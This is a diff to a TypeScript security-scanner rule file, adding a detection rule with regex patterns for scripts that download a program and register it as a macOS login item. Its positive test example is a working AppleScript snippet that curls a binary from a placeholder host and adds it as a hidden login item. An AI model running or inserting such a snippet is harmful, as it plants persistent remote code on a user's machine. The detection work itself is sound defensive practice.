@@ -4,7 +4,8 @@
  * -pkg`, `java -jar`, `msiexec /i`, a BITS job's notify command), installers and loaders pointed
  * straight at a remote package (`msiexec /i https://…`, `rpm -i https://…`, `Import-Module` from a
  * WebDAV share), and fetched text handed to an evaluator in languages the other rules do not read
- * (Groovy `evaluate`, a `data:` URL `import()`, `zipimport`, Scala's `url(…) #> "sh"`).
+ * (Groovy `evaluate`, a `data:` URL `import()`, `zipimport`, Scala's `url(…) #> "sh"`); and a
+ * download registered as a macOS login item, so the fetched program runs at every login.
  */
 import type { Hit, Rule, Segment } from "../types.js";
 import { isOfficialInstaller } from "../allowlist.js";
@@ -81,7 +82,38 @@ function fetchedEvaluations(segment: Segment): Hit[] {
   }).slice(0, 1);
 }
 
+/** A macOS login item added (AppleScript's System Events, `osascript -e`, the login-items APIs). */
+const LOGIN_ITEM = /\bmake\s+(?:new\s+)?login\s+item\b|\bLSSharedFileListInsertItemURL\b|\bSMAppService\.(?:loginItem|agent)\b/i;
+/** A download in AppleScript or shell: `curl … -o`, `wget -O`, `do shell script "curl …"`. */
+const DOWNLOADS = /\b(?:curl|wget)\b[^\n]{0,200}?(?:https?:\/\/|\s-o\s|\s-O\s)|\bNSURLSession\b|\bdataWithContentsOfURL\b/g;
+
+/** A program downloaded by the same file that registers a login item: the fetched code starts at every login. */
+function downloadedLoginItems(segment: Segment): Hit[] {
+  const item = LOGIN_ITEM.exec(segment.text);
+  if (!item) return [];
+  const downloads = hitsOf(DOWNLOADS, segment.text, (m) => !officialRemote(segment.text, m.index));
+  return downloads.length ? [{ index: item.index, length: item[0].length }] : [];
+}
+
 export const stagedInstallRules: Rule[] = [
+  {
+    id: "SR-PERSIST-070",
+    title: "Downloaded program made a login item",
+    category: "persistence",
+    severity: "critical",
+    message: "Downloads a program and registers a login item in the same script: code from the network starts at every login.",
+    fix: "Install the app from a signed package and let the user add it to login items themselves.",
+    fileKinds: SCRIPTS_AND_PROSE,
+    context: "command",
+    triggers: ["login item", "lssharedfilelistinsertitemurl", "smappservice"],
+    match: downloadedLoginItems,
+    examples: {
+      positive: [
+        "do shell script \"curl -fsSL -o ~/Library/Helper/syncd https://get.example-notes.app/syncd && chmod +x ~/Library/Helper/syncd\"\ntell application \"System Events\" to make new login item at end with properties {path:\"/Users/me/Library/Helper/syncd\", hidden:true}",
+      ],
+      negative: ["tell application \"System Events\" to make login item at end with properties {path:\"/Applications/Rectangle.app\", hidden:false}"],
+    },
+  },
   {
     id: "SR-DLEXEC-070",
     title: "Downloaded package installed or run",
